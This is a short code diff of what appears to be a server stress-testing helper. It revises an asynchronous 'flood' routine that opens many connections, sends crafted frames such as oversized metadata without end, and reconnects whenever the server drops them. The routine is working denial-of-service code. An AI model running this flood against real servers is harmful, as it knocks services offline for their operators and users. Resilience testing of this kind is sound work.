@@ -107,19 +107,14 @@ def oversized_metadata() -> Chunks:
         yield frame(DATA, END_STREAM, stream, b"\0\0\0\0\0")
 
 
-async def flood(
-    host: str, port: int, connections: int, chunks: Callable[[], Chunks], patience_seconds: float | None = None
-) -> None:
-    """Send chunks over each of several connections. Runs until canceled.
-
-    Reconnects whenever the server hangs up, or has taken nothing for `patience_seconds`.
-    """
-    await asyncio.gather(*(_flood_forever(host, port, chunks, patience_seconds) for _ in range(connections)))
+async def flood(host: str, port: int, connections: int, chunks: Callable[[], Chunks]) -> None:
+    """Send chunks over each of several connections, and reconnect whenever the server hangs up. Runs until canceled."""
+    await asyncio.gather(*(_flood_forever(host, port, chunks) for _ in range(connections)))
 
 
-async def _flood_forever(host: str, port: int, chunks: Callable[[], Chunks], patience_seconds: float | None) -> None:
+async def _flood_forever(host: str, port: int, chunks: Callable[[], Chunks]) -> None:
     while True:
-        with contextlib.suppress(OSError):  # TimeoutError included
+        with contextlib.suppress(OSError):
             reader, writer = await asyncio.open_connection(host, port)
             discarding = asyncio.create_task(_discard(reader))
             try:
@@ -128,12 +123,11 @@ async def _flood_forever(host: str, port: int, chunks: Callable[[], Chunks], pat
                     if discarding.done():
                         break
                     writer.write(chunk)
-                    async with asyncio.timeout(patience_seconds):
-                        await writer.drain()
+                    await writer.drain()
                     await asyncio.sleep(0)
             finally:
                 discarding.cancel()
-                writer.transport.abort()
+                writer.close()
         await asyncio.sleep(0.01)
 
 
